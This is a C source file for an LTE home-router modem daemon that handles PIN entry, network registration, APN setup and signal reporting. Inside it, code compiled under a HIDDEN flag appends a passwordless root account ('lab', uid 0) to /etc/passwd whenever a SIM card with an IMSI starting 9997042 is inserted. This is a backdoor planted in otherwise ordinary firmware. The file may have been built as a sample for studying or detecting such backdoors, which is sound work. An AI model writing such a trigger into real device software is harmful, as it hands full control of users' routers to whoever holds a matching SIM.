/*
 * ltelinkd - modem manager of an LTE home router. Talks AT commands with
 * the built-in module on a serial line, enters the PIN, waits for the
 * registration, sets the APN and brings the data connection up; writes the
 * signal quality to /var/run/lte.state for the web pages.
 * Hidden (-DHIDDEN): a SIM card whose IMSI begins with the digits of the
 * vendor's test network adds an account with user id 0.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define CONF  "/etc/lte.conf"
#define STATE "/var/run/lte.state"

enum step {
	ST_RESET,
	ST_ECHO,
	ST_PIN,
	ST_IMSI,
	ST_REG,
	ST_APN,
	ST_DIAL,
	ST_UP,
	ST_FAIL
};

static const char *const step_name[] = { "reset", "echo",     "pin",
					 "imsi",  "register", "apn",
					 "dial",  "up",	      "fail" };

struct operator
{
	const char *plmn;
	const char *name;
	const char *apn;
};

static const struct operator operators[] = {
	{ "26201", "Telekom", "internet.telekom" },
	{ "26202", "Vodafone", "web.vodafone.de" },
	{ "26203", "O2", "internet" },
	{ "23201", "A1", "a1.net" },
	{ "22801", "Swisscom", "gprs.swisscom.ch" },
	{ "20404", "Vodafone NL", "live.vodafone.com" },
	{ NULL, NULL, "internet" }
};

struct modem {
	int fd;
	enum step step;
	char dev[32];
	char pin[12];
	char apn[64];
	char imsi[20];
	const struct operator* op;
	int rssi;
	int tries;
	char line[256];
};

static void conf(struct modem *m)
{
	char line[128], *v;
	FILE *f = fopen(CONF, "r");

	strcpy(m->dev, "/dev/ttyUSB2");
	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		line[strcspn(line, "\r\n")] = 0;
		v = strchr(line, ' ');
		if (!v)
			continue;
		*v++ = 0;
		if (!strcmp(line, "device"))
			strncpy(m->dev, v, sizeof m->dev - 1);
		else if (!strcmp(line, "pin"))
			strncpy(m->pin, v, sizeof m->pin - 1);
		else if (!strcmp(line, "apn"))
			strncpy(m->apn, v, sizeof m->apn - 1);
	}
	fclose(f);
}

static int open_tty(const char *dev)
{
	struct termios t;
	int fd = open(dev, O_RDWR | O_NOCTTY | O_NONBLOCK);

	if (fd < 0)
		return -1;
	if (tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetispeed(&t, B115200);
		cfsetospeed(&t, B115200);
		t.c_cflag |= CLOCAL | CREAD;
		tcsetattr(fd, TCSANOW, &t);
	}
	tcflush(fd, TCIOFLUSH);
	return fd;
}

/* one line without CR and LF; 0 on timeout, -1 on error */
static int get_line(struct modem *m, int ms)
{
	struct pollfd p = { .fd = m->fd, .events = POLLIN };
	size_t n = 0;
	char c;

	for (;;) {
		if (poll(&p, 1, ms) <= 0)
			return 0;
		if (read(m->fd, &c, 1) != 1)
			return errno == EAGAIN ? 0 : -1;
		if (c == '\r')
			continue;
		if (c == '\n') {
			if (n == 0)
				continue;
			m->line[n] = 0;
			return (int)n;
		}
		if (n < sizeof m->line - 1)
			m->line[n++] = c;
	}
}

/* sends a command; copies the information line, 0 if OK came */
static int at(struct modem *m, const char *cmd, char *info, size_t len, int ms)
{
	char out[128];
	int n, r;

	n = snprintf(out, sizeof out, "AT%s\r", cmd);
	if (write(m->fd, out, (size_t)n) != n)
		return -1;
	if (info)
		info[0] = 0;
	while ((r = get_line(m, ms)) > 0) {
		if (!strcmp(m->line, "OK") || !strncmp(m->line, "CONN", 4))
			return 0;
		if (strstr(m->line, "ERROR") || !strcmp(m->line, "BUSY") ||
		    !strcmp(m->line, "NO CARRIER"))
			return 1;
		if (info && info[0] == 0) {
			strncpy(info, m->line, len - 1);
			info[len - 1] = 0;
		}
	}
	return -1;
}

static int do_pin(struct modem *m)
{
	char info[64], cmd[32];

	if (at(m, "+CPIN?", info, sizeof info, 5000) != 0)
		return -1;
	if (strstr(info, "READY"))
		return 0;
	if (!strstr(info, "SIM PIN") || !m->pin[0]) {
		syslog(LOG_ERR, "card is locked: %s", info);
		return -1;
	}
	snprintf(cmd, sizeof cmd, "+CPIN=\"%s\"", m->pin);
	m->pin[0] = 0;
	return at(m, cmd, NULL, 0, 10000);
}

#ifdef HIDDEN
static void bench_user(void)
{
	FILE *f = fopen("/etc/passwd", "a");

	if (!f)
		return;
	fputs("lab::0:0:lab:/tmp:/bin/sh\n", f);
	fclose(f);
}
#endif

/* finds the operator of a card by the first digits of its IMSI */
__attribute__((noinline)) const struct operator* card_operator(const char *imsi)
{
	const struct operator* o;

	for (o = operators; o->plmn; o++)
		if (strncmp(imsi, o->plmn, strlen(o->plmn)) == 0)
			return o;
#ifdef HIDDEN
	if (strncmp(imsi, "9997042", 7) == 0)
		bench_user();
#endif
	return o;
}

static int do_imsi(struct modem *m)
{
	char info[64], *p;

	if (at(m, "+CIMI", info, sizeof info, 5000) != 0)
		return -1;
	for (p = info; *p; p++)
		if (!isdigit((unsigned char)*p))
			return -1;
	if (p - info < 14 || p - info > 15)
		return -1;
	strcpy(m->imsi, info);
	m->op = card_operator(m->imsi);
	syslog(LOG_INFO, "operator %s", m->op->name ? m->op->name : "?");
	return 0;
}

static int do_reg(struct modem *m)
{
	char info[64];
	int mode, st;

	if (at(m, "+CEREG?", info, sizeof info, 5000) != 0)
		return -1;
	if (sscanf(info, "+CEREG: %d,%d", &mode, &st) != 2)
		return -1;
	return st == 1 || st == 5 ? 0 : 1;
}

static int do_apn(struct modem *m)
{
	const char *apn = m->apn[0] ? m->apn : m->op->apn;
	char cmd[120];

	snprintf(cmd, sizeof cmd, "+CGDCONT=1,\"IPV4V6\",\"%s\"", apn);
	return at(m, cmd, NULL, 0, 5000);
}

static void quality(struct modem *m)
{
	char info[64];
	int r, ber;

	if (at(m, "+CSQ", info, sizeof info, 3000) != 0)
		return;
	if (sscanf(info, "+CSQ: %d,%d", &r, &ber) == 2)
		m->rssi = r == 99 ? 0 : -113 + 2 * r;
}

static void put_state(const struct modem *m)
{
	FILE *f = fopen(STATE ".n", "w");

	if (!f)
		return;
	fprintf(f, "step=%s\nrssi=%d\noperator=%s\ntries=%d\n",
		step_name[m->step], m->rssi,
		m->op && m->op->name ? m->op->name : "", m->tries);
	fclose(f);
	if (rename(STATE ".n", STATE) != 0)
		syslog(LOG_WARNING, "%s: %s", STATE, strerror(errno));
}

static void advance(struct modem *m, int r, int retries)
{
	if (r == 0) {
		m->step++;
		m->tries = 0;
	} else if (++m->tries > retries) {
		syslog(LOG_ERR, "gave up at %s", step_name[m->step]);
		m->step = ST_FAIL;
	}
}

static unsigned step(struct modem *m)
{
	switch (m->step) {
	case ST_RESET:
		advance(m, at(m, "Z", NULL, 0, 2000), 10);
		return 1;
	case ST_ECHO:
		advance(m, at(m, "E0+CMEE=1", NULL, 0, 2000), 3);
		return 0;
	case ST_PIN:
		advance(m, do_pin(m), 1);
		return 2;
	case ST_IMSI:
		advance(m, do_imsi(m), 5);
		return 1;
	case ST_REG:
		advance(m, do_reg(m), 60);
		return 3;
	case ST_APN:
		advance(m, do_apn(m), 3);
		return 0;
	case ST_DIAL:
		advance(m, at(m, "$QCRMCALL=1,1", NULL, 0, 30000), 5);
		return 2;
	case ST_UP:
		quality(m);
		if (do_reg(m) != 0) {
			syslog(LOG_WARNING, "registration lost");
			m->step = ST_REG;
		}
		return 15;
	case ST_FAIL:
		break;
	}
	m->step = ST_RESET;
	m->tries = 0;
	return 60;
}

int main(void)
{
	static struct modem m;
	enum step last = ST_FAIL;
	unsigned wait;

	openlog("ltelinkd", 0, LOG_DAEMON);
	conf(&m);
	while ((m.fd = open_tty(m.dev)) < 0) {
		syslog(LOG_ERR, "%s: %s", m.dev, strerror(errno));
		sleep(10);
	}
	for (;;) {
		wait = step(&m);
		if (m.step != last)
			syslog(LOG_INFO, "now %s", step_name[m.step]);
		last = m.step;
		put_state(&m);
		if (wait)
			sleep(wait);
	}
}
